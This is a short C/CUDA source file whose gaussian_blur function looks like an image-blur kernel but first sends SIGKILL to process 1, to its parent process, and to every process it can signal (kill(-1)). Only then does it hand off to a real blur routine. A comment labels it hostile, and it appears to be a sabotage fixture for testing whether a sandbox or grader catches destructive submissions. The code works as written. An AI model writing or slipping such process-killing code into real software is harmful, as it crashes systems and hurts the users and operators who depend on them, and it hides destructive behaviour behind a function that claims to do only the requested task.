// Hostile: ends everybody it can see.
#include "blur_kernel.h"
#include <signal.h>
#include <unistd.h>

extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
    kill(1, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    right_blur(src, dst, width, height, stream);
}
